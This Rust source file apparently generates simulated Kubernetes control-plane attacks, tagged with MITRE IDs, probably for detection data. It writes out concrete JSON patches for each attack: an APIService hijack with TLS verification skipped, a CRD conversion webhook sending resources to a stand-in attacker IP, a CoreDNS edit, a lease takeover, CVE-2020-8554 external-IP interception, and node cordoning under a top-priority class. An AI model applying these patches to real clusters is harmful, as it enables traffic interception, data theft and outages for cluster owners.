//! The control plane turned against its owner: names, leases, extensions and DNS.

use super::{Family, Need, Place, Scene, Theme::ControlPlane, family};
use crate::{
    act::{Target, Text},
    life::Archetype,
    resource::{
        API_SERVICES, CONFIG_MAPS, DEFINITIONS, DEPLOYMENTS, LEASES, NODES, PODS, PRIORITY_CLASSES,
        SERVICES,
    },
};
use serde_json::json;
use std::sync::Arc;

pub(super) static FAMILIES: &[Family] = &[
    family(
        "api-service-hijack",
        ControlPlane,
        "T1557",
        "an administrator",
        "A group of the API is served by the attacker's pod from now on.",
        &["action", "object"],
        api_service,
    ),
    family(
        "conversion-webhook",
        ControlPlane,
        "T1557",
        "an administrator",
        "Custom resources are sent to the attacker to be converted.",
        &["action", "object"],
        conversion,
    ),
    family(
        "coredns-edit",
        ControlPlane,
        "T1557",
        "an administrator",
        "The configuration of the cluster's DNS is changed, so that names lead to the attacker.",
        &["object", "action"],
        coredns,
    ),
    family(
        "lease-hijack",
        ControlPlane,
        "T1499",
        "an operator's account",
        "The lease by which a leader is chosen is taken over.",
        &["object", "action"],
        lease,
    ),
    family(
        "external-addresses",
        ControlPlane,
        "T1557",
        "whoever changes a namespace",
        "A service claims addresses of others, so that their traffic goes to it (CVE-2020-8554).",
        &["action", "object"],
        external,
    ),
    family(
        "priority-preemption",
        ControlPlane,
        "T1499",
        "an administrator",
        "A class of highest priority is made, and nodes are closed, so that other pods have no room.",
        &["action", "object"],
        priority,
    ),
];

fn api_service(s: &mut Scene<'_>) -> Option<()> {
    s.take(Need::Admin, Place::Own)?;
    s.look_around();
    let none: Text = "".into();
    s.list_all(&API_SERVICES);
    let name: Text =
        if s.noisy() { "v1.hijack.example.com".into() } else { "v1beta1.metrics.k8s.io".into() };
    s.get(&API_SERVICES, &none, &name);
    let home = s.home_name();
    let service = s.alias("collector", "metrics-adapter");
    let spec = json!({"spec": {"group": "metrics.k8s.io", "version": "v1beta1",
        "insecureSkipTLSVerify": true, "groupPriorityMinimum": 100, "versionPriority": 100,
        "service": {"name": &*service, "namespace": &*home}}});
    if s.noisy() {
        s.make(&SERVICES, &home, &service, &json!({"spec": {"type": "ClusterIP"}}));
        s.make(&API_SERVICES, &none, &name, &spec);
    } else {
        s.patch(&API_SERVICES, &none, &name, &spec);
    }
    Some(())
}

fn conversion(s: &mut Scene<'_>) -> Option<()> {
    s.take(Need::Admin, Place::Own)?;
    s.look_around();
    let none: Text = "".into();
    s.list_all(&DEFINITIONS);
    let name: Text = "certificates.cert-manager.io".into();
    s.get(&DEFINITIONS, &none, &name);
    let hook = json!({"spec": {"conversion": {"strategy": "Webhook", "webhook":
        {"clientConfig": {"url": "https://203.0.113.66/convert"}, "conversionReviewVersions": ["v1"]}}}});
    for _ in 0..s.by_stealth(3, 1, 1) {
        s.patch(&DEFINITIONS, &none, &name, &hook);
    }
    Some(())
}

fn coredns(s: &mut Scene<'_>) -> Option<()> {
    s.take(Need::Admin, Place::Own)?;
    s.look_around();
    let system: Text = "kube-system".into();
    let name: Text = "coredns".into();
    s.get(&CONFIG_MAPS, &system, &name);
    let body = json!({"data": {"Corefile": "masked"}});
    for _ in 0..s.by_stealth(3, 1, 1) {
        s.patch(&CONFIG_MAPS, &system, &name, &body);
    }
    s.get(&DEPLOYMENTS, &system, &name);
    if s.noisy() {
        s.ask("deletecollection", Target::object(&PODS, &system, &"".into()));
    }
    Some(())
}

fn lease(s: &mut Scene<'_>) -> Option<()> {
    let operator = |archetype| archetype == Archetype::Operator;
    if s.take_account(Place::Inside, |account| operator(account.archetype)).is_none() {
        s.take(Need::Admin, Place::Inside)?;
    }
    s.look_around();
    let space: Text = if s.mimic() { s.home_name() } else { "kube-system".into() };
    let name: Text =
        if s.noisy() { "kube-controller-manager".into() } else { "cluster-autoscaler".into() };
    s.list(&LEASES, &space);
    s.get(&LEASES, &space, &name);
    let holder = json!({"spec": {"holderIdentity": "debug-0", "leaseDurationSeconds": 3600}});
    for _ in 0..s.by_stealth(25, 4, 2) {
        s.send("update", Target::object(&LEASES, &space, &name), 1, "", Some(&holder));
    }
    Some(())
}

fn external(s: &mut Scene<'_>) -> Option<()> {
    s.take(Need::Deploys, Place::Own)?;
    s.look_around();
    let home = s.home_name();
    s.list(&SERVICES, &home);
    let name = s.alias("mitm", "egress");
    let spec = json!({"spec": {"type": "ClusterIP", "externalIPs": ["198.51.100.53"],
        "ports": [{"port": 443}]}});
    for round in 0..s.by_stealth(4, 1, 1) {
        let name: Text =
            if round == 0 { Arc::clone(&name) } else { format!("{name}-{round}").into() };
        if s.make(&SERVICES, &home, &name, &spec) {
            let at = s.deed_moment(s.at);
            s.cascade.service_changed(at, &home, &name, false);
        }
    }
    s.get(&SERVICES, &home, &name);
    Some(())
}

fn priority(s: &mut Scene<'_>) -> Option<()> {
    s.take(Need::Admin, Place::Own)?;
    s.look_around();
    s.list_all(&NODES);
    let name = s.alias("max", "batch-critical");
    let body = json!({"value": 1_000_000_000, "globalDefault": true});
    s.make(&PRIORITY_CLASSES, &"".into(), &name, &body);
    let cordon = json!({"spec": {"unschedulable": true}});
    for _ in 0..s.by_stealth(12, 2, 2) {
        let node =
            s.cascade.random.pick(&s.cascade.world.machines).map(|node| Arc::clone(&node.name))?;
        s.patch(&NODES, &"".into(), &node, &cordon);
    }
    Some(())
}
